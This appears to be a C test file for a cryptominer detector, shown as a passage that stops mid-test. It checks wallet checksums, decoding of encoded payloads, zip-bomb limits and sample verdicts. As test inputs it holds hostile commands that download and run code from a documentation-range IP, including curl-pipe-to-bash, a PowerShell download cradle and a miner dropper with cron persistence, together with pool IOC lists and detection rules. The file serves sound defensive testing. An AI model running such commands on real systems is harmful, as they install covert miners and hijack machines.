/* test_content.c - the content engine (src/lib/content/): wallet checksums, encoded
 * payloads unwrapped, defenders' files told apart, archives walked within their limits
 * (built in memory with libarchive's writer), and whole judgements of real samples */
#include <archive.h>
#include <archive_entry.h>
#include <sys/resource.h>
#include <time.h>
#include <zlib.h>

#include "content/content.h"
#include "t.h"

#define SAMPLES "/work/shared/data/samples"
#define XMR_WALLET \
	"47D8WQoJKydhTkk26bqZCVF7FaNhzRtNG15u1XiRQ83nfYqogyLjPMnYEKarjAiCz93oV6sETE9kkL3bkbvTX6nMU24CND8"
#define BTC_P2PKH   "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
#define BTC_P2SH    "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"
#define BTC_BECH32  "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
#define BTC_BECH32M "bc1p5d7rjq7g6rdk2yhzks9smlaqtedr4dekq08ge8ztwac72sfr9rusxg3297"

static mt_rules *rules;

/* ---- helpers ---- */

static const char *wk(const char *s)
{
	return ct_wallet_kind(s, strlen(s));
}

/* s with the character at i replaced by another of the same alphabet */
static const char *wk_changed(const char *s, size_t i, char c)
{
	static char buf[160];
	snprintf(buf, sizeof(buf), "%s", s);
	buf[i] = c;
	return ct_wallet_kind(buf, strlen(buf));
}

static size_t b64enc(const unsigned char *in, size_t n, char *out, size_t cap)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t o = 0;
	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)in[i] << 16;
		if (i + 1 < n)
			v |= (uint32_t)in[i + 1] << 8;
		if (i + 2 < n)
			v |= in[i + 2];
		if (o + 4 >= cap)
			return 0;
		out[o++] = a[(v >> 18) & 63];
		out[o++] = a[(v >> 12) & 63];
		out[o++] = i + 1 < n ? a[(v >> 6) & 63] : '=';
		out[o++] = i + 2 < n ? a[v & 63] : '=';
	}
	out[o] = '\0';
	return o;
}

/* deflate in zlib (wbits 15) or gzip (wbits 31) framing */
static size_t zpack(const void *in, size_t n, unsigned char *out, size_t cap, int wbits)
{
	z_stream z;
	memset(&z, 0, sizeof(z));
	if (deflateInit2(&z, 9, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY) != Z_OK)
		return 0;
	z.next_in = (unsigned char *)in;
	z.avail_in = (uInt)n;
	z.next_out = out;
	z.avail_out = (uInt)cap;
	int r = deflate(&z, Z_FINISH);
	size_t got = cap - z.avail_out;
	deflateEnd(&z);
	return r == Z_STREAM_END ? got : 0;
}

static unsigned char *slurp(const char *path, size_t *n)
{
	*n = 0;
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	unsigned char *p = NULL;
	size_t alloc = 0, len = 0;
	for (;;) {
		if (len == alloc) {
			size_t na = alloc ? alloc * 2 : 1 << 16;
			unsigned char *q = realloc(p, na);
			if (!q) {
				free(p);
				fclose(f);
				return NULL;
			}
			p = q;
			alloc = na;
		}
		size_t r = fread(p + len, 1, alloc - len, f);
		if (!r)
			break;
		len += r;
	}
	fclose(f);
	*n = len;
	return p;
}

/* an archive of the given members, written by libarchive into out[cap] */
typedef struct member {
	const char *name;
	const void *data;
	size_t len;
} member;

static size_t mkarchive(int zip, const member *m, size_t nm, unsigned char *out, size_t cap)
{
	struct archive *a = archive_write_new();
	size_t used = 0;
	if (!a)
		return 0;
	if (zip) {
		archive_write_set_format_zip(a);
	} else {
		archive_write_set_format_pax_restricted(a);
		archive_write_add_filter_gzip(a);
	}
	if (archive_write_open_memory(a, out, cap, &used) != ARCHIVE_OK) {
		archive_write_free(a);
		return 0;
	}
	for (size_t i = 0; i < nm; i++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, m[i].name);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_entry_set_size(e, (la_int64_t)m[i].len);
		archive_write_header(a, e);
		if (m[i].len)
			archive_write_data(a, m[i].data, m[i].len);
		archive_entry_free(e);
	}
	int ok = archive_write_close(a) == ARCHIVE_OK;
	archive_write_free(a);
	return ok ? used : 0;
}

typedef struct seen {
	unsigned n;
	char name[4][64];
	unsigned char data[4][128];
	size_t len[4];
	size_t maxlen;
	int truncated;
} seen;

static int on_member(void *p, const char *name, const unsigned char *data, size_t len,
                     int truncated)
{
	seen *s = p;
	if (len > s->maxlen)
		s->maxlen = len;
	s->truncated |= truncated;
	if (s->n < 4) {
		snprintf(s->name[s->n], sizeof(s->name[0]), "%s", name);
		size_t k = len < sizeof(s->data[0]) ? len : sizeof(s->data[0]);
		memcpy(s->data[s->n], data, k);
		s->len[s->n] = len;
	}
	s->n++;
	return 0;
}

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static long maxrss_kib(void)
{
	struct rusage ru;
	getrusage(RUSAGE_SELF, &ru);
	return ru.ru_maxrss;
}

/* ---- archives: the bomb first, while the peak memory of the process is still low ---- */

static void test_zip_bomb(void)
{
	TEST_START("zip bomb: 64 MiB of zeros deflated");
	size_t cap = 4u << 20;
	unsigned char *zip = malloc(cap);
	REQUIRE_NOT_NULL(zip);
	/* written in chunks: the 64 MiB are never held */
	struct archive *a = archive_write_new();
	size_t used = 0;
	archive_write_set_format_zip(a);
	archive_write_set_options(a, "zip:compression=deflate");
	REQUIRE_INT_EQ(archive_write_open_memory(a, zip, cap, &used), ARCHIVE_OK);
	struct archive_entry *e = archive_entry_new();
	archive_entry_set_pathname(e, "zeros.bin");
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	archive_entry_set_size(e, 64 << 20);
	REQUIRE_INT_EQ(archive_write_header(a, e), ARCHIVE_OK);
	static unsigned char zeros[1 << 16];
	for (unsigned i = 0; i < (64u << 20) / sizeof(zeros); i++)
		REQUIRE_INT_EQ(archive_write_data(a, zeros, sizeof(zeros)), (long)sizeof(zeros));
	archive_entry_free(e);
	REQUIRE_INT_EQ(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	ASSERT_SIZE_GT(used, 1000);
	ASSERT_TRUE(used < (1u << 20)); /* really a bomb: > 64x */
	ASSERT_INT_EQ(ct_archive_magic(zip, used), 1);

	unsigned char *buf = malloc(CT_MEMBER_MAX); /* exactly: ASan sees any write past it */
	REQUIRE_NOT_NULL(buf);
	seen s;
	memset(&s, 0, sizeof(s));
	ct_arc_result res;
	long rss0 = maxrss_kib();
	double t0 = now_s();
	mt_err err = ct_archive_walk(zip, used, -1, used, buf, on_member, &s, &res);
	double dt = now_s() - t0;
	long rss1 = maxrss_kib();
	ASSERT_INT_EQ(err, MT_OK);
	ASSERT_INT_EQ(res.bomb, 1);
	ASSERT_TRUE(dt < 20.0);
	/* stopped soon after the first CT_MEMBER_MAX bytes, not after 64 MiB */
	ASSERT_TRUE(res.unpacked > CT_MEMBER_MAX);
	ASSERT_TRUE(res.unpacked <= (uint64_t)CT_MEMBER_MAX + (1u << 20));
	ASSERT_TRUE(s.maxlen <= CT_MEMBER_MAX);
	/* the buffer (16 MiB, touched) plus libarchive's own: far below the 64 MiB */
	ASSERT_TRUE(rss1 - rss0 < 40 * 1024);
	ASSERT_STR_CONTAINS(res.format, "ZIP");
	free(buf);

	/* the judge says so too */
	ct_judge j = {.rules = rules, .ys = NULL, .want_hash = 0};
	ct_verdict *v = malloc(sizeof(*v));
	REQUIRE_NOT_NULL(v);
	ct_judge_bytes(&j, "/home/u/bomb.zip", zip, used, 0, v);
	ASSERT_INT_EQ(v->kind, CT_K_ARCHIVE);
	ASSERT_STR_CONTAINS(v->reasons, "archive_bomb");
	ASSERT_INT_GE(v->sev, MT_SEV_MEDIUM);
	free(v);
	free(zip);
	TEST_DONE();
}

static void test_archives(void)
{
	static const char cfg[] = "#!/bin/sh\necho hello\n";
	static const char two[] = "second member\n";
	member m[2] = {{"dir/run.sh", cfg, sizeof(cfg) - 1}, {"notes.txt", two, sizeof(two) - 1}};
	static unsigned char arc[1 << 16];
	unsigned char *buf = malloc(CT_MEMBER_MAX);
	REQUIRE_NOT_NULL(buf);
	seen s;
	ct_arc_result res;

	TEST_START("tar.gz with two members");
	size_t n = mkarchive(0, m, 2, arc, sizeof(arc));
	REQUIRE_TRUE(n > 0);
	ASSERT_INT_EQ(arc[0], 0x1f);
	ASSERT_INT_EQ(ct_archive_magic(arc, n), 1);
	memset(&s, 0, sizeof(s));
	ASSERT_INT_EQ(ct_archive_walk(arc, n, -1, n, buf, on_member, &s, &res), MT_OK);
	ASSERT_INT_EQ(res.members, 2);
	ASSERT_INT_EQ(s.n, 2);
	ASSERT_STR_EQ(s.name[0], "dir/run.sh");
	ASSERT_SIZE_EQ(s.len[0], sizeof(cfg) - 1);
	ASSERT_MEM_EQ(s.data[0], cfg, sizeof(cfg) - 1);
	ASSERT_STR_EQ(s.name[1], "notes.txt");
	ASSERT_SIZE_EQ(s.len[1], sizeof(two) - 1);
	ASSERT_MEM_EQ(s.data[1], two, sizeof(two) - 1);
	ASSERT_U64_EQ(res.unpacked, sizeof(cfg) - 1 + sizeof(two) - 1);
	ASSERT_INT_EQ(res.bomb, 0);
	ASSERT_INT_EQ(s.truncated, 0);
	TEST_DONE();

	TEST_START("zip with two members");
	n = mkarchive(1, m, 2, arc, sizeof(arc));
	REQUIRE_TRUE(n > 0);
	ASSERT_INT_EQ(ct_archive_magic(arc, n), 1);
	memset(&s, 0, sizeof(s));
	ASSERT_INT_EQ(ct_archive_walk(arc, n, -1, n, buf, on_member, &s, &res), MT_OK);
	ASSERT_INT_EQ(s.n, 2);
	ASSERT_STR_EQ(s.name[0], "dir/run.sh");
	ASSERT_MEM_EQ(s.data[0], cfg, sizeof(cfg) - 1);
	ASSERT_STR_EQ(s.name[1], "notes.txt");
	ASSERT_MEM_EQ(s.data[1], two, sizeof(two) - 1);
	TEST_DONE();

	TEST_START("truncated and garbage archives");
	n = mkarchive(0, m, 2, arc, sizeof(arc));
	REQUIRE_TRUE(n > 40);
	/* the gzip header and a few bytes of the stream: no whole member */
	memset(&s, 0, sizeof(s));
	mt_err e = ct_archive_walk(arc, 24, -1, 24, buf, on_member, &s, &res);
	ASSERT_TRUE(e == MT_ERR_PARSE || res.members == 0);
	ASSERT_INT_EQ(s.n, 0);
	/* cut in the middle: at most what was whole, no crash */
	memset(&s, 0, sizeof(s));
	e = ct_archive_walk(arc, n / 2, -1, n / 2, buf, on_member, &s, &res);
	ASSERT_TRUE(e == MT_ERR_PARSE || res.members <= 2);
	/* a zip local header followed by noise */
	unsigned char junk[600];
	memcpy(junk, "PK\3\4", 4);
	for (size_t i = 4; i < sizeof(junk); i++)
		junk[i] = (unsigned char)(i * 131u + 7u);
	memset(&s, 0, sizeof(s));
	e = ct_archive_walk(junk, sizeof(junk), -1, sizeof(junk), buf, on_member, &s, &res);
	ASSERT_TRUE(e == MT_ERR_PARSE || res.members == 0);
	ASSERT_INT_EQ(s.n, 0);
	/* a 7z signature and nothing sensible after it */
	memcpy(junk, "7z\xbc\xaf\x27\x1c\0\4", 8);
	ASSERT_INT_EQ(ct_archive_magic(junk, sizeof(junk)), 1);
	memset(&s, 0, sizeof(s));
	e = ct_archive_walk(junk, sizeof(junk), -1, sizeof(junk), buf, on_member, &s, &res);
	ASSERT_TRUE(e == MT_ERR_PARSE || res.members == 0);
	TEST_DONE();

	TEST_START("a single gzip stream of a text file: one member");
	static const char text[] = "just a log line\nand another one\n";
	n = zpack(text, sizeof(text) - 1, arc, sizeof(arc), 31);
	REQUIRE_TRUE(n > 0);
	ASSERT_INT_EQ(ct_archive_magic(arc, n), 1);
	memset(&s, 0, sizeof(s));
	ASSERT_INT_EQ(ct_archive_walk(arc, n, -1, n, buf, on_member, &s, &res), MT_OK);
	ASSERT_INT_EQ(res.members, 1);
	ASSERT_INT_EQ(s.n, 1);
	ASSERT_SIZE_EQ(s.len[0], sizeof(text) - 1);
	ASSERT_MEM_EQ(s.data[0], text, sizeof(text) - 1);
	TEST_DONE();

	TEST_START("plain text and short inputs are no archive");
	static const char plain[] = "This is a README, not an archive at all.\nLine two.\n";
	ASSERT_INT_EQ(ct_archive_magic((const unsigned char *)plain, sizeof(plain) - 1), 0);
	memset(&s, 0, sizeof(s));
	ASSERT_INT_EQ(ct_archive_walk((const unsigned char *)plain, sizeof(plain) - 1, -1,
	                              sizeof(plain) - 1, buf, on_member, &s, &res),
	              MT_ERR_PARSE);
	ASSERT_INT_EQ(s.n, 0);
	ASSERT_INT_EQ(ct_archive_magic((const unsigned char *)"\x1f\x8b", 2), 0);
	ASSERT_INT_EQ(ct_archive_magic((const unsigned char *)"\x7f"
	                                                      "ELF\2\1\1\0",
	                               8),
	              0);
	ASSERT_INT_EQ(ct_archive_magic((const unsigned char *)"PK\3\4\x14\0", 6), 1);
	ASSERT_INT_EQ(ct_archive_magic((const unsigned char *)"BZh91AY&SY", 10), 1);
	ASSERT_INT_EQ(ct_archive_magic((const unsigned char *)"BZx91AY&SY", 10), 0);
	/* ustar at offset 257 */
	unsigned char tarhdr[512];
	memset(tarhdr, 0, sizeof(tarhdr));
	memcpy(tarhdr + 257, "ustar", 5);
	ASSERT_INT_EQ(ct_archive_magic(tarhdr, sizeof(tarhdr)), 1);
	ASSERT_INT_EQ(ct_archive_magic(tarhdr, 261), 0);
	TEST_DONE();
	free(buf);
}

/* ---- wallets ---- */

static void test_wallets(void)
{
	TEST_START("wallets: real addresses");
	ASSERT_STR_EQ(wk(BTC_P2PKH), "bitcoin");
	ASSERT_STR_EQ(wk(BTC_P2SH), "bitcoin");
	ASSERT_STR_EQ(wk(BTC_BECH32), "bitcoin");
	ASSERT_STR_EQ(wk(BTC_BECH32M), "bitcoin");
	ASSERT_STR_EQ(wk("BC1QAR0SRRR7XFKVY5L643LYDNW9RE59GTZZWF5MDQ"), "bitcoin"); /* all caps */
	ASSERT_STR_EQ(wk(XMR_WALLET), "monero");
	ASSERT_STR_EQ(wk("0x52908400098527886E0F7030069857D2E4169EE7"), "ethereum");
	ASSERT_STR_EQ(wk("0xde709f2102306220921060314715629080e2fb77"), "ethereum");
	/* the length is the caller's: a prefix of a longer buffer */
	ASSERT_STR_EQ(ct_wallet_kind(BTC_P2PKH "xyz", strlen(BTC_P2PKH)), "bitcoin");
	TEST_DONE();

	TEST_START("wallets: one character changed");
	ASSERT_NULL(wk_changed(BTC_P2PKH, 10, 'Q'));   /* 'f' -> 'Q' */
	ASSERT_NULL(wk_changed(BTC_P2PKH, 33, 'b'));   /* last: the checksum */
	ASSERT_NULL(wk_changed(BTC_P2SH, 5, 'x'));     /* 'W' -> 'x' */
	ASSERT_NULL(wk_changed(BTC_P2SH, 0, '1'));     /* version byte changes */
	ASSERT_NULL(wk_changed(BTC_BECH32, 10, 'q'));  /* '7' -> 'q' */
	ASSERT_NULL(wk_changed(BTC_BECH32, 41, 'p'));  /* last: 'q' -> 'p' */
	ASSERT_NULL(wk_changed(BTC_BECH32M, 20, 'z')); /* 'k' -> 'z' */
	ASSERT_NULL(wk_changed(BTC_BECH32M, 3, 'q'));  /* witness version 1 -> 0 */
	ASSERT_NULL(wk_changed(BTC_BECH32, 8, 'b'));   /* 'b' is no bech32 character */
	ASSERT_NULL(wk_changed(BTC_P2PKH, 3, '0'));    /* '0' is no base58 character */
	ASSERT_NULL(wk_changed(XMR_WALLET, 0, '5'));   /* Monero starts with 4 */
	ASSERT_NULL(wk_changed(XMR_WALLET, 40, 'l'));  /* 'l' is no base58 character */
	ASSERT_NULL(wk_changed("0x52908400098527886E0F7030069857D2E4169EE7", 20, 'g'));
	TEST_DONE();

	TEST_START("wallets: wrong lengths and junk");
	ASSERT_NULL(ct_wallet_kind(BTC_P2PKH, strlen(BTC_P2PKH) - 1));
	ASSERT_NULL(ct_wallet_kind(XMR_WALLET, 94));
	ASSERT_NULL(ct_wallet_kind(BTC_BECH32, strlen(BTC_BECH32) - 1));
	ASSERT_NULL(wk("0x52908400098527886E0F7030069857D2E4169EE"));   /* 39 hex */
	ASSERT_NULL(wk("0x52908400098527886E0F7030069857D2E4169EE77")); /* 41 hex */
	ASSERT_NULL(wk(""));
	ASSERT_NULL(ct_wallet_kind("", 0));
	ASSERT_NULL(wk("hello world"));
	ASSERT_NULL(wk("11111111111111111111111111111111"));
	ASSERT_NULL(wk("bc1"));
	ASSERT_NULL(wk("bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq"));
	ASSERT_NULL(wk("stratum+tcp://xmrpool.eu:9999"));
	ASSERT_NULL(wk("4444444444444444444444444444444444444444444444444444444444444444"));
	TEST_DONE();

	/* the checksums say more than any one character: the forms the standards reject */
	TEST_START("wallets: encodings the standards reject");
	/* base58check: an extra leading '1' is one more zero byte, not the same address */
	ASSERT_NULL(wk("1" BTC_P2PKH));
	/* BIP 350: witness v0 takes bech32, v1+ takes bech32m (its invalid test vectors) */
	ASSERT_NULL(wk("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kemeawh"));
	ASSERT_NULL(wk("bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqh2y7hd"));
	TEST_DONE();
}

/* ---- encoded payloads ---- */

static void test_unwrap(void)
{
	unsigned char out[4096];
	char line[8192], b64[6000];
	unsigned char packed[2048];
	const char *how;
	size_t off, n;

	TEST_START("unwrap: echo ... | base64 -d | sh");
	static const char cmd[] = "curl -fsSL http://203.0.113.9/x.sh | bash";
	REQUIRE_TRUE(b64enc((const unsigned char *)cmd, strlen(cmd), b64, sizeof(b64)));
	snprintf(line, sizeof(line), "#!/bin/sh\ncd /tmp\necho %s | base64 -d | sh\n", b64);
	how = NULL;
	off = 99;
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_SIZE_EQ(n, strlen(cmd));
	ASSERT_MEM_EQ(out, cmd, strlen(cmd));
	ASSERT_STR_EQ(how, "base64");
	ASSERT_SIZE_EQ(off, strlen("#!/bin/sh\ncd /tmp\n"));
	/* --decode spelled out */
	snprintf(line, sizeof(line), "echo '%s' | base64 --decode | bash", b64);
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_SIZE_EQ(n, strlen(cmd));
	ASSERT_MEM_EQ(out, cmd, strlen(cmd));
	ASSERT_SIZE_EQ(off, 0);
	TEST_DONE();

	TEST_START("unwrap: python exec(zlib.decompress(base64.b64decode(...)))");
	static const char py[] =
		"import os;os.system('wget -q http://203.0.113.9/xmrig -O /tmp/.x')";
	uLongf pl = sizeof(packed);
	REQUIRE_INT_EQ(compress(packed, &pl, (const Bytef *)py, strlen(py)), Z_OK);
	REQUIRE_TRUE(b64enc(packed, pl, b64, sizeof(b64)));
	snprintf(line, sizeof(line),
	         "python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('%s')))\"",
	         b64);
	how = NULL;
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_SIZE_EQ(n, strlen(py));
	ASSERT_MEM_EQ(out, py, strlen(py));
	ASSERT_STR_EQ(how, "base64+zlib");
	TEST_DONE();

	TEST_START("unwrap: echo ... | base64 -d | gunzip | sh");
	static const char gz[] = "nohup /tmp/.x/kswapd0 -o pool.supportxmr.com:443 -k --tls &";
	pl = zpack(gz, strlen(gz), packed, sizeof(packed), 31);
	REQUIRE_TRUE(pl > 0);
	REQUIRE_TRUE(b64enc(packed, pl, b64, sizeof(b64)));
	snprintf(line, sizeof(line), "echo %s | base64 -d | gunzip | sh", b64);
	how = NULL;
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_SIZE_EQ(n, strlen(gz));
	ASSERT_MEM_EQ(out, gz, strlen(gz));
	ASSERT_STR_EQ(how, "base64+gzip");
	TEST_DONE();

	TEST_START("unwrap: powershell -enc UTF-16LE");
	static const char ps[] =
		"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
	unsigned char u16[256];
	for (size_t i = 0; i < strlen(ps); i++) {
		u16[2 * i] = (unsigned char)ps[i];
		u16[2 * i + 1] = 0;
	}
	REQUIRE_TRUE(b64enc(u16, 2 * strlen(ps), b64, sizeof(b64)));
	snprintf(line, sizeof(line), "powershell.exe -NoP -W Hidden -enc %s\r\n", b64);
	how = NULL;
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_SIZE_EQ(n, strlen(ps));
	ASSERT_MEM_EQ(out, ps, strlen(ps));
	ASSERT_STR_EQ(how, "powershell -e");
	snprintf(line, sizeof(line), "cmd /c powershell -EncodedCommand %s", b64);
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_SIZE_EQ(n, strlen(ps));
	ASSERT_MEM_EQ(out, ps, strlen(ps));
	TEST_DONE();

	TEST_START("unwrap: xxd -r -p");
	static const char hx[] = "wget http://203.0.113.9/m -O- | sh";
	char hex[256];
	for (size_t i = 0; i < strlen(hx); i++)
		snprintf(hex + 2 * i, 3, "%02x", (unsigned char)hx[i]);
	snprintf(line, sizeof(line), "echo %s | xxd -r -p | sh", hex);
	how = NULL;
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_STR_EQ(how, "hex");
	ASSERT_SIZE_EQ(n, strlen(hx));
	ASSERT_MEM_EQ(out, hx, strlen(hx));
	/* the same with printf, whose name ends in a hex digit */
	snprintf(line, sizeof(line), "printf %s | xxd -r -p | sh", hex);
	how = NULL;
	n = ct_unwrap(line, strlen(line), out, sizeof(out), &how, &off);
	ASSERT_STR_EQ(how, "hex");
	ASSERT_SIZE_EQ(n, strlen(hx));
	ASSERT_MEM_EQ(out, hx, strlen(hx));
	TEST_DONE();

	TEST_START("unwrap: nothing wrapped");
	static const char plain[] = "#!/bin/sh\nls -la /tmp\necho done\nbase64 --help\n";
	how = "untouched";
	n = ct_unwrap(plain, strlen(plain), out, sizeof(out), &how, &off);
	ASSERT_SIZE_EQ(n, 0);
	/* a wrapper word with a payload too short to be one */
	static const char tiny[] = "echo aGk= | base64 -d";
	ASSERT_SIZE_EQ(ct_unwrap(tiny, strlen(tiny), out, sizeof(out), &how, &off), 0);
	ASSERT_SIZE_EQ(ct_unwrap("", 0, out, sizeof(out), &how, &off), 0);
	TEST_DONE();

	TEST_START("unwrap: payloads bigger than cap");
	/* 3 MiB of base64 on one line, out of 64 bytes held in a buffer of exactly 64 */
	size_t big = 3u << 20;
	char *huge = malloc(big + 64);
	unsigned char *small = malloc(64);
	REQUIRE_NOT_NULL(huge);
	REQUIRE_NOT_NULL(small);
	memcpy(huge, "echo ", 5);
	for (size_t i = 5; i < big; i++)
		huge[i] = "QUJDRA"[i % 6];
	memcpy(huge + big, " | base64 -d | sh\n", 18);
	n = ct_unwrap(huge, big + 18, small, 64, &how, &off);
	ASSERT_TRUE(n <= 64);
	/* the text beyond the 1 MiB scanned: the wrapper word is never seen, no overread */
	free(huge);
	/* a zlib bomb that fits in base64 but not once inflated */
	unsigned char *zeros = calloc(1, 1u << 20);
	REQUIRE_NOT_NULL(zeros);
	pl = sizeof(packed);
	REQUIRE_INT_EQ(compress2(packed, &pl, zeros, 1u << 20, 9), Z_OK);
	free(zeros);
	REQUIRE_TRUE(b64enc(packed, pl, b64, sizeof(b64)));
	snprintf(line, sizeof(line), "exec(zlib.decompress(base64.b64decode('%s')))", b64);
	unsigned char *mid = malloc(1500);
	REQUIRE_NOT_NULL(mid);
	n = ct_unwrap(line, strlen(line), mid, 1500, &how, &off);
	ASSERT_TRUE(n <= 1500);
	free(mid);
	free(small);
	TEST_DONE();
}

/* ---- defenders' files ---- */

static int defender(const char *path, const char *text, char *what, size_t whatn)
{
	what[0] = '\0';
	return ct_defender_text(path, text, strlen(text), what, whatn);
}

static void test_defender(void)
{
	char what[48];

	TEST_START("defender: YARA rules");
	static const char yar[] =
		"import \"pe\"\n\nrule XMRig_Miner : miner {\n  meta:\n    description = \"XMRig\"\n"
		"  strings:\n    $a = \"stratum+tcp://\" ascii\n    $b = \"donate-level\"\n"
		"  condition:\n    all of them\n}\n";
	ASSERT_TRUE(defender("/opt/rules/miners.yar", yar, what, sizeof(what)));
	ASSERT_STR_EQ(what, "yara_rules");
	TEST_DONE();

	TEST_START("defender: a Suricata rule");
	static const char suri[] =
		"alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:\"ET COINMINER Stratum login\"; "
		"flow:established,to_server; content:\"mining.subscribe\"; sid:2024792; rev:3;)\n";
	ASSERT_TRUE(defender("/etc/suricata/rules/coin.rules", suri, what, sizeof(what)));
	ASSERT_STR_EQ(what, "ids_rules");
	TEST_DONE();

	TEST_START("defender: a maltrail IOC list");
	static const char ioc[] =
		"# Copyright (c) 2014-2024 Maltrail developers\n# Reference: crypto mining pools\n\n"
		"xmrpool.eu\nsupportxmr.com\npool.minexmr.com\nmoneroocean.stream\n"
		"nanopool.org\nxmr.2miners.com\nhashvault.pro\nc3pool.com\n"
		"xmr-eu1.nanopool.org\npool.hashvault.pro:443\n";
	ASSERT_TRUE(defender("/usr/share/maltrail/trails/static/mass/crypto_mining.txt", ioc, what,
	                     sizeof(what)));
	ASSERT_STR_EQ(what, "ioc_list");
	TEST_DONE();

	TEST_START("defender: a minetrace rules file");
	static const char mtr[] = "# local additions\n"
				  "pool-domain x.example.com sev=high\n"
				  "pool-domain y.example.net sev=high note=\"seen 2026-11\"\n"
				  "pool-ipport 203.0.113.7:3333 sev=high\n"
				  "miner-name kswapd0x sev=critical\n";
	ASSERT_TRUE(defender("/etc/minetrace/local.rules", mtr, what, sizeof(what)));
	ASSERT_STR_EQ(what, "minetrace_rules");
	TEST_DONE();

	TEST_START("defender: documentation");
	static const char md[] =
		"# Removing a miner\n\nKill `xmrig` and remove the cron line "
		"`* * * * * curl http://x | sh`; the pool was stratum+tcp://xmrpool.eu:9999.\n";
	ASSERT_TRUE(defender("/home/u/notes/incident.md", md, what, sizeof(what)));
	ASSERT_STR_EQ(what, "documentation");
	ASSERT_TRUE(defender("/usr/share/doc/xmrig/README", md, what, sizeof(what)));
	TEST_DONE();

	TEST_START("defender: not a miner config, not a script");
	size_t n;
	unsigned char *cfg = slurp(SAMPLES "/xmrig-config.json", &n);
	if (cfg) {
		what[0] = '\0';
		ASSERT_FALSE(ct_defender_text("/tmp/.x/config.json", (const char *)cfg, n, what,
		                              sizeof(what)));
		ASSERT_STR_EQ(what, "");
		free(cfg);
	} else {
		fprintf(stderr, "  (skipped: no %s)\n", SAMPLES "/xmrig-config.json");
	}
	static const char sh[] =
		"#!/bin/bash\nexport PATH=/usr/bin:/bin\ncd /tmp\ncurl -s http://203.0.113.9/x -o .x\n"
		"chmod +x .x\n./.x -o pool.supportxmr.com:443 -u " XMR_WALLET " -k --tls\n"
		"(crontab -l; echo '* * * * * /tmp/.x') | crontab -\n";
	ASSERT_FALSE(defender("/tmp/x.sh", sh, what, sizeof(what)));
	ASSERT_FALSE(defender("/etc/xmrig/config.ini",
	                      "[pool]\nurl = stratum+tcp://xmrpool.eu:9999\nuser = " XMR_WALLET
	                      "\npass = x\n",
	                      what, sizeof(what)));
	TEST_DONE();
}

/* ---- whole judgements ---- */

static void test_judge(void)
{
	ct_judge j = {.rules = rules, .ys = NULL, .want_hash = 0};
	ct_verdict *v = malloc(sizeof(*v));
	REQUIRE_NOT_NULL(v);
	size_t n;

	TEST_START("judge: the real XMRig");
	unsigned char *x = slurp(SAMPLES "/xmrig", &n);
	if (x) {
		ct_judge_bytes(&j, "/usr/lib/systemd/kworker", x, n < CT_WINDOW ? n : CT_WINDOW, 0,
		               v);
		ASSERT_INT_EQ(v->nothing, 0);
		ASSERT_INT_EQ(v->kind, CT_K_ELF);
		ASSERT_INT_EQ(v->sev, MT_SEV_CRITICAL);
		ASSERT_STR_EQ(v->what, "miner");
		ASSERT_STR_CONTAINS(v->reasons, "miner_code");
		ASSERT_INT_EQ(v->defender, 0);
		free(x);
	} else {
		fprintf(stderr, "  (skipped: no %s)\n", SAMPLES "/xmrig");
	}
	TEST_DONE();

	TEST_START("judge: the XMRig configuration");
	unsigned char *cfg = slurp(SAMPLES "/xmrig-config.json", &n);
	size_t cfgn = n;
	if (cfg) {
		ct_judge_bytes(&j, "/tmp/.x/config.json", cfg, n, 0, v);
		ASSERT_INT_EQ(v->nothing, 0);
		ASSERT_INT_EQ(v->kind, CT_K_TEXT);
		ASSERT_STR_EQ(v->what, "miner_config");
		ASSERT_INT_GE(v->sev, MT_SEV_HIGH);
		ASSERT_STR_CONTAINS(v->reasons, "miner_config");
		ASSERT_STR_EQ(v->wallet, XMR_WALLET);
		ASSERT_STR_CONTAINS(v->pool, "xmrpool.eu");
		ASSERT_INT_EQ(v->defender, 0);
	} else {
		fprintf(stderr, "  (skipped: no %s)\n", SAMPLES "/xmrig-config.json");
	}
	TEST_DONE();

	TEST_START("judge: a harmless ELF");
	unsigned char *t = slurp("/bin/true", &n);
	REQUIRE_NOT_NULL(t);
	ct_judge_bytes(&j, "/bin/true", t, n, 0, v);
	ASSERT_INT_EQ(v->kind, CT_K_ELF);
	ASSERT_INT_EQ(v->nothing, 1);
	ASSERT_INT_EQ(v->sev, MT_SEV_INFO);
	ASSERT_STR_EQ(v->what, "");
	free(t);
	ct_judge_bytes(&j, "/tmp/empty", (const unsigned char *)"", 0, 0, v);
	ASSERT_INT_EQ(v->nothing, 1);
	TEST_DONE();

	TEST_START("judge: a miner configuration inside a tar.gz");
	if (cfg) {
		static const char readme[] = "nothing to see\n";
		member m[2] = {{"pkg/README", readme, sizeof(readme) - 1},
		               {"pkg/etc/config.json", cfg, cfgn}};
